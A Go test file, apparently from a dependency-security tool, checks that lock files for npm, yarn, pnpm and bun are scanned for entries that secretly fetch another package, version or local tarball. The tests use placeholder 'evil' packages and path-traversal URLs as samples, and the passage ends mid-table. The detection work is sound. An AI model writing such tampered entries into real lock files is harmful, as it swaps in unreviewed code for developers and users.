package npm

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/org/goproxy-action/internal/decide"
	"github.com/org/goproxy-action/internal/ecosystem"
	"github.com/org/goproxy-action/internal/lockfile"
	"github.com/org/goproxy-action/internal/source"
	"github.com/org/goproxy-action/policy"
)

// group gathers the entries of lock files, and says nothing of what is flagged.
func group(locks []lockFile) ([]decide.Group, error) {
	g, err := gather(locks, nil)
	if err != nil {
		return nil, err
	}
	return g.groups, nil
}

// flagLines are the flagged packages of a checkout, in one line each.
func flagLines(t *testing.T, m ecosystem.Machine, files map[string]string) []string {
	t.Helper()
	var in decide.Input
	open(t, m, files).Fill(&in, nil)
	out := []string{}
	for _, f := range in.Flagged {
		line := fmt.Sprintf("%s %s@%s %s:%d:%d %s", f.Kind, f.Name, f.Version, f.File, f.Line, f.Column, f.Detail)
		if f.ListSet {
			line += fmt.Sprintf(" (listed: %t)", f.Listed)
		}
		out = append(out, line)
	}
	return out
}

func TestServed(t *testing.T) {
	t.Parallel()
	const sha = "0123456789abcdef0123456789abcdef01234567"
	for at, want := range map[string]string{
		"/left-pad/-/left-pad-1.3.0.tgz":                                       "left-pad@1.3.0",
		"/@s/n/-/n-1.0.0-rc.1.tgz":                                             "@s/n@1.0.0-rc.1",
		"/@s%2fn/-/n-1.0.0.tgz":                                                "@s/n@1.0.0",
		"/%40s%2Fn/-/n-1.0.0.tgz":                                              "@s/n@1.0.0",
		"/@s/n/-/@s/n-1.0.0.tgz":                                               "@s/n@1.0.0",
		"/api/npm/npm-remote/left-pad/-/left-pad-1.3.0.tgz":                    "left-pad@1.3.0",
		"/api/v4/projects/1/packages/npm/@s/n/-/@s/n-1.0.0.tgz":                "@s/n@1.0.0",
		"/@s/n/-/5.15.4/n-5.15.4.tgz":                                          "@s/n@5.15.4",
		"/left-pad/download/left-pad-1.3.0.tgz":                                "left-pad@1.3.0",
		"/@s/n/download/@s/n-1.0.0.tgz":                                        "@s/n@1.0.0",
		"/download/@owner/n/1.0.0/" + sha:                                      "@owner/n@1.0.0",
		"/packages/%40s/n/1.0.0/n-1.0.0.tgz":                                   "@s/n@1.0.0",
		"/packages/left-pad/1.3.0/left-pad-1.3.0.tgz":                          "left-pad@1.3.0",
		"/left-pad/-/../../evil/-/evil-1.0.0.tgz":                              "evil@1.0.0",
		"/left-pad/-/%2e%2e/%2e%2e/evil/-/evil-1.0.0.tgz":                      "evil@1.0.0",
		"//evil/-/evil-1.0.0.tgz":                                              "evil@1.0.0",
		"/%65vil/-/%65vil-1.0.0.tgz":                                           "evil@1.0.0",
		"/group/project/-/archive/1.0.0/project-1.0.0.tar.gz":                  "",
		"/group/project/-/jobs/artifacts/main/raw/project-1.0.0.tgz?job=build": "",
		"/u/r/releases/download/v1.0.0/r-1.0.0.tgz":                            "",
		"/u/r/tar.gz/" + sha:                                                   "",
		"/left-pad/-/other-1.3.0.tgz":                                          "",
		"/left-pad/-/left-pad-latest.tgz":                                      "",
		"/download/@owner/n/1.0.0/x":                                           "",
		"/a.tgz":                                                               "",
		"/%zz/-/a-1.0.0.tgz":                                                   "",
		"":                                                                     "",
	} {
		name, version := served(at)
		if got := strings.TrimSuffix(name+"@"+version, "@"); got != want {
			t.Errorf("%s: got %q, want %q", at, got, want)
		}
	}
}

func TestOther(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, version, at, want string }{
		{"left-pad", "1.3.0", "/left-pad/-/left-pad-1.3.0.tgz", ""},
		{"left-pad", "1.3.0", "/evil/-/evil-1.3.0.tgz", "evil@1.3.0"},
		{"left-pad", "1.3.0", "/left-pad/-/left-pad-1.2.0.tgz", "left-pad@1.2.0"},
		{"left-pad", "", "/left-pad/-/left-pad-1.2.0.tgz", ""},
		{"left-pad", "", "/evil/-/evil-1.2.0.tgz", "evil@1.2.0"},
		{"left-pad", "https://a.test", "/evil/-/evil-1.2.0.tgz", "evil@1.2.0"},
		{"@s/n", "1.0.0", "/n/-/n-1.0.0.tgz", "n@1.0.0"},
		{"n", "1.0.0", "/@s/n/-/n-1.0.0.tgz", "@s/n@1.0.0"},
		{"n", "1.0.0", "/%40s/n/-/n-1.0.0.tgz", "@s/n@1.0.0"},
		{"n", "1.0.0", "/@s/./n/-/n-1.0.0.tgz", "@s/n@1.0.0"},
		{"n", "1.0.0", "/@s//n/-/n-1.0.0.tgz", "@s/n@1.0.0"},
		{"n", "1.0.0", "/@s/x/../n/-/n-1.0.0.tgz", "@s/n@1.0.0"},
		{"n", "1.0.0", "/api/npm/r/n/-/n-1.0.0.tgz", ""},
		{"jsonstream", "1.0.0", "/JSONStream/-/JSONStream-1.0.0.tgz", "JSONStream@1.0.0"},
		{"pad", "1.0.0", "/left-pad/-/left-pad-1.0.0.tgz", "left-pad@1.0.0"},
		{"a", "1.0.0+build.7", "/a/-/a-1.0.0.tgz", ""},
		{"a", "1.0.0", "/a/-/a-1.0.0%2Bbuild.tgz", ""},
		{"a", "1.0.0-beta", "/a/-/a-1.0.0beta.tgz", ""},
		{"a", "v1.0.0", "/a/-/a-1.0.0.tgz", ""},
		{"a", "1.0.01", "/a/-/a-1.0.0-1.tgz", "a@1.0.0-1"},
		{"a", "1.2.34", "/a/-/a-1.2.3-4.tgz", "a@1.2.3-4"},
		{"a", "1.0.0", "/u/r/releases/download/v1.0.0/b-1.0.0.tgz", ""},
	} {
		if got := other(c.name, c.version, c.at); got != c.want {
			t.Errorf("%s@%s at %s: got %q, want %q", c.name, c.version, c.at, got, c.want)
		}
	}
}

// An entry that fetches another package than it says, in each format, beside what only looks like one.
func TestFetchedAsAnother(t *testing.T) {
	t.Parallel()
	const (
		r       = "https://r.test/"
		evil    = r + "evil/-/evil-1.0.0.tgz"
		v3      = `{"lockfileVersion":3,"packages":{"":{%s},` + "\n%s}}"
		v1      = `{"lockfileVersion":1,"dependencies":{` + "\n%s}}"
		bunLock = `{"lockfileVersion":1,"workspaces":{"":{"dependencies":{"x":"1",%s}}},"packages":{` + "\n%s}}"
		pnpm6   = "lockfileVersion: '6.0'\ndependencies:\n  a:\n    specifier: %s\n    version: %s\npackages:\n  /%s:\n    resolution: {integrity: sha512-x}\n"
	)
	sum := probeIntegrity
	type files = map[string]string
	lockOf := func(text string) files { return files{"package-lock.json": text} }
	of := func(more files, file, text string) files {
		more[file] = text
		return more
	}
	for name, c := range map[string]struct {
		files files
		want  []string
	}{
		"npm: address": {lockOf(fmt.Sprintf(v3, "", `"node_modules/a":{"version":"1.0.0","resolved":"`+evil+`"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:48 is fetched as evil@1.0.0, which its address is of"}},
		"npm: older version": {lockOf(fmt.Sprintf(v3, "", `"node_modules/x/node_modules/@s/a":{"version":"2.0.0","resolved":"`+r+`@s/a/-/a-1.0.0.tgz"}`)),
			[]string{"other @s/a@2.0.0 package-lock.json:2:66 is fetched as @s/a@1.0.0, which its address is of"}},
		"npm: query": {lockOf(fmt.Sprintf(v3, "", `"node_modules/a":{"version":"1.0.0","resolved":"`+evil+`?/a/-/a-1.0.0.tgz"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:48 is fetched as evil@1.0.0, which its address is of"}},
		"npm: name": {lockOf(fmt.Sprintf(v3, "", `"node_modules/a":{"name":"evil","version":"1.0.0","resolved":"`+evil+`"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:26 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: name without an address": {lockOf(fmt.Sprintf(v3, `"dependencies":{"a":"^1","b":"npm:evil@1"}`, `"node_modules/a":{"name":"evil","version":"1.0.0"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:26 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: name in other letters": {lockOf(fmt.Sprintf(v3, "", `"node_modules/a":{"name":"evil","version":"1.0.0","resolved":"HTTPS://r.test/evil/-/evil-1.0.0.tgz"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:26 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: alias of the root":               {lockOf(fmt.Sprintf(v3, `"devDependencies":{"a":"npm:evil@^1"}`, `"node_modules/a":{"name":"evil","version":"1.0.0","resolved":"`+evil+`"}`)), []string{}},
		"npm: alias of a package":              {lockOf(fmt.Sprintf(v3, "", `"node_modules/x":{"version":"1.0.0","dependencies":{"y":"1","a":"npm:@s/evil@^1"}},"node_modules/a":{"name":"@s/evil","version":"1.0.0"}`)), []string{}},
		"npm: alias of a workspace":            {lockOf(fmt.Sprintf(v3, "", `"w":{"optionalDependencies":{"a":"npm:evil"}},"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{}},
		"npm: asked for by its address":        {lockOf(fmt.Sprintf(v3, `"dependencies":{"a":"`+evil+`"}`, `"node_modules/a":{"name":"evil","version":"1.0.0","resolved":"`+evil+`"}`)), []string{}},
		"npm: repository of another name":      {lockOf(fmt.Sprintf(v3, `"dependencies":{"a":"u/evil"}`, `"node_modules/a":{"name":"evil","version":"1.0.0","resolved":"git+ssh://git@github.com/u/evil.git#0123"}`)), []string{}},
		"npm: override in package.json":        {of(files{"package.json": `{"overrides":{"a":"npm:evil@1.0.0"}}`}, "package-lock.json", fmt.Sprintf(v3, "", `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{}},
		"npm: the words of package.json alone": {of(files{"package.json": `{"description":"npm:evil","keywords":["npm:evil@1"],"dependencies":{"b":"npm:evil@1"}}`}, "package-lock.json", fmt.Sprintf(v3, "", `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{"other a@1.0.0 package-lock.json:2:26 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: override by reference":           {of(files{"package.json": `{"dependencies":{"b":"npm:evil@1"},"overrides":{"x":{"a":"$b"}}}`}, "package-lock.json", fmt.Sprintf(v3, "", `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{}},
		"npm: alias of another package, of what the root asks for": {lockOf(fmt.Sprintf(v3, `"dependencies":{"a":"^1","x":"1"}`, `"node_modules/x":{"version":"1.0.0","dependencies":{"a":"npm:evil@1"}},"node_modules/a":{"name":"evil","version":"1.0.0"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:97 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: alias of another package, below it":    {lockOf(fmt.Sprintf(v3, `"dependencies":{"a":"^1","x":"1"}`, `"node_modules/x":{"version":"1.0.0","dependencies":{"a":"npm:evil@1"}},"node_modules/x/node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{}},
		"npm: in the version, where any will do":     {of(files{"package.json": `{"dependencies":{"a":"*"}}`}, "package-lock.json", fmt.Sprintf(v3, `"a":"*"`, `"node_modules/a":{"version":"npm:evil@1.0.0"}`)), []string{"other a@1.0.0 package-lock.json:2:29 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: as the lock file alone says":           {of(files{"package.json": `{"dependencies":{"a":"*"}}`}, "package-lock.json", fmt.Sprintf(v3, `"dependencies":{"a":"npm:evil@1.0.0"}`, `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{"other a@1.0.0 package-lock.json:2:26 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: as package.json cannot mean":           {of(files{"package.json": `{"dependencies":{"a":"^2.0.0"}}`}, "package-lock.json", fmt.Sprintf(v3, `"dependencies":{"a":"npm:evil@1.0.0"}`, `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{}},
		"npm: in a range":                            {of(files{"package.json": `{"dependencies":{"a":"^1"}}`}, "package-lock.json", fmt.Sprintf(v3, `"dependencies":{"a":"npm:evil@1.0.0"}`, `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{"other a@1.0.0 package-lock.json:2:26 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: as both say":                           {of(files{"package.json": `{"dependencies":{"a":"npm:evil@1.0.0"}}`}, "package-lock.json", fmt.Sprintf(v3, `"dependencies":{"a":"npm:evil@1.0.0"}`, `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{}},
		"npm: as package.json does not say any more": {of(files{"package.json": `{}`}, "package-lock.json", fmt.Sprintf(v3, `"dependencies":{"a":"npm:evil@1.0.0"}`, `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{}},
		"npm: a link to another one":                 {of(files{"package.json": `{"dependencies":{"a":"*"}}`}, "package-lock.json", fmt.Sprintf(v3, `"dependencies":{"a":"*"}`, `"node_modules/a":{"resolved":"node_modules/evil","link":true},"node_modules/evil":{"version":"1.0.0"}`)), []string{"other a@ package-lock.json:2:30 comes from node_modules/evil, where nobody asks for it"}},
		"npm: an address as the version":             {of(files{"package.json": `{"dependencies":{"a":"*"}}`}, "package-lock.json", fmt.Sprintf(v3, `"a":"*"`, `"node_modules/a":{"version":"https://r.test/evil/-/evil-1.0.0.tgz"}`)), []string{"other a@1.0.0 package-lock.json:2:29 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: another override":                      {of(files{"package.json": `{"overrides":{"a":"npm:evil-not@1.0.0"}}`}, "package-lock.json", fmt.Sprintf(v3, "", `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{"other a@1.0.0 package-lock.json:2:26 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: override in another directory":         {of(files{"w/package.json": `{"overrides":{"a":"npm:evil@1.0.0"}}`}, "package-lock.json", fmt.Sprintf(v3, "", `"node_modules/a":{"name":"evil","version":"1.0.0"}`)), []string{"other a@1.0.0 package-lock.json:2:26 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm: other tarballs are no registry":        {lockOf(fmt.Sprintf(v3, "", `"node_modules/a":{"version":"1.0.0","resolved":"https://codeload.github.com/u/r/tar.gz/v1.0.0"}`)), []string{}},
		"npm 6: address": {lockOf(fmt.Sprintf(v1, `"a":{"version":"1.0.0","resolved":"`+evil+`"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:35 is fetched as evil@1.0.0, which its address is of"}},
		"npm 6: alias with another address": {lockOf(fmt.Sprintf(v1, `"a":{"version":"npm:b@1.0.0","resolved":"`+evil+`"}`)),
			[]string{"other b@1.0.0 package-lock.json:2:41 is fetched as evil@1.0.0, which its address is of"}},
		"npm 6: alias": {lockOf(fmt.Sprintf(v1, `"a":{"version":"npm:evil@1.0.0","resolved":"`+evil+`"}`)), []string{}},
		"npm 6: an alias nobody asks for": {of(files{"package.json": `{"dependencies":{"a":"^1"}}`}, "package-lock.json", fmt.Sprintf(v1, `"a":{"version":"npm:evil@1.0.0"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:16 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm 6: an alias of package.json": {of(files{"package.json": `{"dependencies":{"a":"npm:evil@1"}}`}, "package-lock.json", fmt.Sprintf(v1, `"a":{"version":"npm:evil@1.0.0"}`)), []string{}},
		"npm 6: an alias of a package":    {of(files{"package.json": `{}`}, "package-lock.json", fmt.Sprintf(v1, `"x":{"version":"1.0.0","requires":{"a":"npm:evil@1"}},"a":{"version":"npm:evil@1.0.0"}`)), []string{}},
		"npm 6: an address nobody asks for": {of(files{"package.json": `{}`}, "package-lock.json", fmt.Sprintf(v1, `"a":{"version":"`+evil+`"}`)),
			[]string{"other a@1.0.0 package-lock.json:2:16 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"npm 6: an address of package.json": {of(files{"package.json": `{"dependencies":{"a":"` + evil + `"}}`}, "package-lock.json", fmt.Sprintf(v1, `"a":{"version":"`+evil+`"}`)), []string{}},
		"npm 6: an address of a package":    {lockOf(fmt.Sprintf(v1, `"x":{"version":"1.0.0","requires":{"a":"`+evil+`"}},"a":{"version":"`+evil+`"}`)), []string{}},

		"yarn 1: address": {files{"yarn.lock": "a@^1:\n  version \"1.0.0\"\n  resolved \"" + evil + "#0\"\n"},
			[]string{"other a@1.0.0 yarn.lock:3:12 is fetched as evil@1.0.0, which its address is of"}},
		"yarn 1: alias":                    {files{"yarn.lock": "\"a@npm:evil@^1\":\n  version \"1.0.0\"\n  resolved \"" + evil + "\"\n"}, []string{}},
		"yarn 1: alias with another":       {files{"yarn.lock": "\"a@npm:b@^1\":\n  version \"1.0.0\"\n  resolved \"" + evil + "\"\n"}, []string{"other b@1.0.0 yarn.lock:3:12 is fetched as evil@1.0.0, which its address is of"}},
		"yarn 1: asked for by its address": {files{"yarn.lock": "\"a@" + evil + "\":\n  version \"1.0.0\"\n  resolved \"" + evil + "\"\n"}, []string{}},
		"yarn 1: resolution":               {files{"yarn.lock": "a@^1, \"a@npm:evil@1.0.0\":\n  version \"1.0.0\"\n  resolved \"" + evil + "\"\n", "package.json": `{"resolutions":{"a":"npm:evil@1.0.0"}}`}, []string{}},
		"yarn 1: resolution that is none": {files{"yarn.lock": "a@^1, \"a@npm:evil@1.0.0\":\n  version \"1.0.0\"\n  resolved \"" + evil + "\"\n", "package.json": `{"resolutions":{"b":"npm:good@1.0.0"}}`},
			[]string{"other a@1.0.0 yarn.lock:1:1 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"yarn 1: file of the offline mirror": {files{"yarn.lock": "a@^1:\n  version \"1.0.0\"\n  resolved evil-1.0.0.tgz#0\n"},
			[]string{"other a@1.0.0 yarn.lock:3:12 is fetched as evil-1.0.0, which its address is of"}},
		"yarn 1: scope in the mirror": {files{"yarn.lock": "\"@s/a@^1\":\n  version \"1.0.0\"\n  resolved \"@s-a-1.0.0.tgz#0\"\n"}, []string{}},

		"yarn 2: name":         {files{"yarn.lock": berryLockOf("a@npm:^1", "evil@npm:1.0.0", "")}, []string{"other a@1.0.0 yarn.lock:7:15 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"yarn 2: one of many":  {files{"yarn.lock": berryLockOf("evil@npm:^1, a@npm:^1", "evil@npm:1.0.0", "")}, []string{"other a@1.0.0 yarn.lock:7:15 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"yarn 2: alias":        {files{"yarn.lock": berryLockOf("a@npm:evil@^1", "evil@npm:1.0.0", "")}, []string{}},
		"yarn 2: address":      {files{"yarn.lock": berryLockOf("a@npm:^1", "a@npm:1.0.0::__archiveUrl=https%3A%2F%2Fr.test%2Fevil%2F-%2Fevil-1.0.0.tgz", "")}, []string{"other a@1.0.0 yarn.lock:7:15 is fetched as evil@1.0.0, which its address is of"}},
		"yarn 2: path":         {files{"yarn.lock": berryLockOf("a@npm:^1", "a@npm:1.0.0::__archiveUrl=%2Fevil%2F-%2Fevil-1.0.0.tgz", "")}, []string{"other a@1.0.0 yarn.lock:7:15 is fetched as evil@1.0.0, which its address is of"}},
		"yarn 2: own address":  {files{"yarn.lock": berryLockOf("a@npm:^1", "a@npm:1.0.0::__archiveUrl=https%3A%2F%2Fr.test%2Fa%2F-%2Fa-1.0.0.tgz", "")}, []string{}},
		"yarn 2: tarball":      {files{"yarn.lock": berryLockOf("a@"+evil, "a@"+evil, "")}, []string{}},
		"yarn 2: not by words": {files{"yarn.lock": berryLockOf("a@npm:^1", "evil@npm:1.0.0", ""), "package.json": `{"resolutions":{"b":"npm:evil@1"}}`}, []string{"other a@1.0.0 yarn.lock:7:15 is fetched as evil@1.0.0, which nobody asks for by that name"}},

		"pnpm: address": {files{"pnpm-lock.yaml": "lockfileVersion: '6.0'\npackages:\n  /a@1.0.0:\n    resolution: {tarball: " + evil + "}\n"},
			[]string{"other a@1.0.0 pnpm-lock.yaml:4:27 is fetched as evil@1.0.0, which its address is of"}},
		"pnpm: path": {files{"pnpm-lock.yaml": "lockfileVersion: '6.0'\npackages:\n  /a@1.0.0:\n    resolution: {tarball: /evil/-/evil-1.0.0.tgz}\n"},
			[]string{"other a@1.0.0 pnpm-lock.yaml:4:27 is fetched as evil@1.0.0, which its address is of"}},
		"pnpm: name beside the key": {files{"pnpm-lock.yaml": "lockfileVersion: 5.4\npackages:\n  /a/1.0.0:\n    resolution: {integrity: sha512-x}\n    name: evil\n"},
			[]string{"other a@1.0.0 pnpm-lock.yaml:5:11 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"pnpm: version beside the key": {files{"pnpm-lock.yaml": "lockfileVersion: '9.0'\npackages:\n  a@2.0.0:\n    resolution: {integrity: sha512-x}\n    version: 1.0.0\nsnapshots: {}\n"},
			[]string{"other a@1.0.0 pnpm-lock.yaml:5:14 is fetched as a@1.0.0, which nobody asks for by that name"}},
		"pnpm: what a requirement leads to": {files{"pnpm-lock.yaml": fmt.Sprintf(pnpm6, "^1", "/evil@1.0.0(x@2.0.0)", "evil@1.0.0")}, []string{"other a@1.0.0 pnpm-lock.yaml:5:14 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"pnpm: alias":                       {files{"pnpm-lock.yaml": fmt.Sprintf(pnpm6, "npm:evil@^1", "/evil@1.0.0", "evil@1.0.0")}, []string{}},
		"pnpm: peers":                       {files{"pnpm-lock.yaml": fmt.Sprintf(pnpm6, "^1", "1.0.0(evil@1.0.0)", "a@1.0.0")}, []string{}},
		"pnpm: catalog":                     {files{"pnpm-lock.yaml": "lockfileVersion: '9.0'\ncatalogs:\n  default:\n    a:\n      specifier: npm:evil@^1\n      version: 1.0.0\n" + fmt.Sprintf(pnpm6[len("lockfileVersion: '6.0'\n"):], "'catalog:'", "evil@1.0.0", "evil@1.0.0") + "snapshots: {}\n"}, []string{}},
		"pnpm: what the catalog does not ask for": {files{"pnpm-lock.yaml": "lockfileVersion: '9.0'\ncatalogs:\n  default:\n    a:\n      specifier: ^1\n      version: 1.0.0\n" + fmt.Sprintf(pnpm6[len("lockfileVersion: '6.0'\n"):], "'catalog:'", "evil@1.0.0", "evil@1.0.0") + "snapshots: {}\n"},
			[]string{"other a@1.0.0 pnpm-lock.yaml:10:14 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"pnpm 5: what a requirement is for": {files{"pnpm-lock.yaml": "lockfileVersion: 5.3\nspecifiers:\n  '@s/a': ^1\n  b: ^1\n  c: npm:d@1\ndependencies:\n  '@s/a': /evil/1.0.0_react@17.0.2\n  b: 1.0.0_react@17.0.2\n  c: /d/1.0.0\n"}, []string{"other @s/a@1.0.0 pnpm-lock.yaml:7:11 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"pnpm 9: what a requirement is for": {files{"pnpm-lock.yaml": "lockfileVersion: '9.0'\nimporters:\n  .: {}\n  w:\n    devDependencies:\n      a:\n        specifier: latest\n        version: '@s/evil@1.0.0'\n"}, []string{"other a@1.0.0 pnpm-lock.yaml:8:18 is fetched as @s/evil@1.0.0, which nobody asks for by that name"}},
		"pnpm: copies and links":            {files{"pnpm-lock.yaml": "lockfileVersion: 5.4\nspecifiers: {a: '*', b: '*', c: '*'}\ndependencies:\n  a: link:../a\n  b: file:packages/b_react@17.0.2\n  c: registry.test/@s/c/1.0.0\n"}, []string{}},
		"pnpm: tarball with its own name":   {files{"pnpm-lock.yaml": "lockfileVersion: '9.0'\npackages:\n  evil@" + evil + ":\n    resolution: {tarball: " + evil + "}\n    version: 1.0.0\nsnapshots: {}\n"}, []string{}},
		"pnpm 5: tarball with its own name": {files{"pnpm-lock.yaml": "lockfileVersion: 5.4\npackages:\n  '@r.test/evil/-/evil-1.0.0.tgz':\n    resolution: {tarball: " + evil + "}\n    name: evil\n    version: 1.0.0\n"}, []string{}},
		"pnpm 5: tarball with another's name": {files{"pnpm-lock.yaml": "lockfileVersion: 5.4\npackages:\n  r.test/a/1.0.0:\n    resolution: {tarball: " + evil + "}\n    name: a\n    version: 1.0.0\n"},
			[]string{"other a@1.0.0 pnpm-lock.yaml:4:27 is fetched as evil@1.0.0, which its address is of"}},

		"bun: address": {files{"bun.lock": fmt.Sprintf(bunLock, "", `"a":["a@1.0.0","`+evil+`",{},"`+sum+`"]`)},
			[]string{"other a@1.0.0 bun.lock:2:16 is fetched as evil@1.0.0, which its address is of"}},
		"bun: name": {files{"bun.lock": fmt.Sprintf(bunLock, `"a":"^1"`, `"a":["evil@1.0.0","",{},"`+sum+`"]`)},
			[]string{"other a@1.0.0 bun.lock:2:6 is fetched as evil@1.0.0, which nobody asks for by that name"}},
		"bun: alias":              {files{"bun.lock": fmt.Sprintf(bunLock, `"a":"npm:evil@1"`, `"a":["evil@1.0.0","",{},"`+sum+`"]`)}, []string{}},
		"bun: alias of a package": {files{"bun.lock": fmt.Sprintf(bunLock, ``, `"x":["x@1.0.0","",{"dependencies":{"@s/a":"npm:evil@1"}},"`+sum+`"],"x/@s/a":["evil@1.0.0","",{},"`+sum+`"]`)}, []string{}},
		"bun: nested":             {files{"bun.lock": fmt.Sprintf(bunLock, ``, `"x/@s/a":["@s/a@1.0.0","",{},"`+sum+`"]`)}, []string{}},
		"bun: override":           {files{"bun.lock": `{"lockfileVersion":1,"overrides":{"x":{".":"1","a":"npm:evil@1"}},"packages":{"a":["evil@1.0.0","",{},"` + sum + `"]}}`}, []string{}},
		"bun: catalog":            {files{"bun.lock": `{"lockfileVersion":1,"catalogs":{"old":{"a":"npm:evil@1"}},"packages":{"a":["evil@1.0.0","",{},"` + sum + `"]}}`}, []string{}},
		"bun: tarball":            {files{"bun.lock": fmt.Sprintf(bunLock, `"a":"`+evil+`"`, `"a":["a@`+evil+`",{},"`+sum+`"]`)}, []string{}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := slices.DeleteFunc(flagLines(t, machine(), c.files), func(line string) bool { return !strings.HasPrefix(line, "other ") })
			if diff := cmp.Diff(c.want, got); diff != "" {
				t.Errorf("%v\n(-want +got)\n%s", c.files, diff)
			}
		})
	}
}

// One version has one content, whichever lock file pins it.
// A file takes the place of a registry's package unless somebody asks for one. That npm 11.19 and yarn 1.22 install it with
// a frozen lock file was tried; pnpm 10 refuses it.
func TestFilesThatNobodyAsksFor(t *testing.T) {
	t.Parallel()
	const sum = "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
	npm := func(wants, entries string) string {
		return `{"lockfileVersion": 3, "packages": {` + "\n" + `"": {"dependencies": {` + wants + `}},` + "\n" + entries + `}}`
	}
	const evil = `"node_modules/a": {"version": "1.0.0", "resolved": "file:evil.tgz", "integrity": "` + sum + `"}`
	yarn := func(pattern, resolved string) string {
		return "# yarn lockfile v1\n\n\n\"" + pattern + "\":\n  version \"1.0.0\"\n  resolved \"" + resolved + "#0123456789012345678901234567890123456789\"\n"
	}
	pnpm := func(key, more string) string {
		return "lockfileVersion: '9.0'\n\npackages:\n\n  " + key + ":\n    resolution: {integrity: " + sum + ", tarball: file:evil.tgz}\n" + more + "\nsnapshots:\n\n  " + key + ": {}\n"
	}
	told := func(at string) []string {
		return []string{"file a@1.0.0 " + at + " comes from file:evil.tgz, where nobody asks for it"}
	}
	for name, c := range map[string]struct {
		files map[string]string
		want  []string
	}{
		"npm":                   {map[string]string{"package-lock.json": npm(`"a": "1.0.0"`, evil)}, told("package-lock.json:3:52")},
		"npm, an alias":         {map[string]string{"package-lock.json": npm(`"a": "npm:b@1.0.0"`, `"node_modules/a": {"name": "b", "version": "1.0.0", "resolved": "file:evil.tgz"}`)}, told("package-lock.json:3:65")},
		"npm, as the version":   {map[string]string{"package-lock.json": npm(`"a": "*"`, `"node_modules/a": {"version": "file:evil.tgz"}`)}, told("package-lock.json:3:31")},
		"npm, as its bare name": {map[string]string{"package-lock.json": npm(`"a": "*"`, `"node_modules/a": {"version": "evil.TGZ"}`)}, []string{"file a@1.0.0 package-lock.json:3:31 comes from evil.TGZ, where nobody asks for it"}},
		"npm, a directory":      {map[string]string{"package-lock.json": npm(`"a": "*"`, `"node_modules/a": {"version": "."}`)}, []string{"file a@1.0.0 package-lock.json:3:31 comes from ., where nobody asks for it"}},
		"npm, asked as such":    {map[string]string{"package-lock.json": npm(`"a": "file:evil.tgz"`, `"node_modules/a": {"version": "file:evil.tgz"}`)}, []string{}},
		"npm, version 1":        {map[string]string{"package-lock.json": `{"lockfileVersion": 1, "dependencies": {"a": {"version": "1.0.0", "resolved": "file:evil.tgz"}}}`}, told("package-lock.json:1:79")},
		"npm, asked":            {map[string]string{"package-lock.json": npm(`"a": "file:evil.tgz"`, evil)}, []string{}},
		"npm, asked path":       {map[string]string{"package-lock.json": npm(`"a": "./evil.tgz"`, evil)}, []string{}},
		"npm, by another":       {map[string]string{"package-lock.json": npm(`"b": "1.0.0"`, evil+`, "node_modules/b": {"version": "1.0.0", "dependencies": {"a": "file:evil.tgz"}}`)}, []string{}},
		"npm, a workspace asks": {map[string]string{"package-lock.json": npm(`"b": "1.0.0"`, `"w": {"dependencies": {"a": "file:../evil.tgz"}}, `+evil)}, []string{}},
		"npm, overrides":        {map[string]string{"package-lock.json": npm(`"b": "1.0.0"`, evil), "package.json": `{"overrides": {"a": "file:./evil.tgz"}}`}, []string{}},
		"npm, a link":           {map[string]string{"package.json": `{"workspaces": ["w/*"]}`, "package-lock.json": npm(`"a": "^1.0.0"`, `"node_modules/a": {"resolved": "w/a", "link": true}, "w/a": {"version": "1.0.0"}`)}, []string{}},
		"yarn":                  {map[string]string{"yarn.lock": yarn("a@1.0.0", "./evil.tgz")}, []string{"file a@1.0.0 yarn.lock:6:12 comes from ./evil.tgz, where nobody asks for it"}},
		"yarn, file:":           {map[string]string{"yarn.lock": yarn("a@^1.0.0", "file:evil.tgz")}, told("yarn.lock:6:12")},
		"yarn, asked":           {map[string]string{"yarn.lock": yarn("a@file:evil.tgz", "file:evil.tgz")}, []string{}},
		"yarn's mirror":         {map[string]string{"yarn.lock": yarn("a@1.0.0", "a-1.0.0.tgz")}, []string{}},
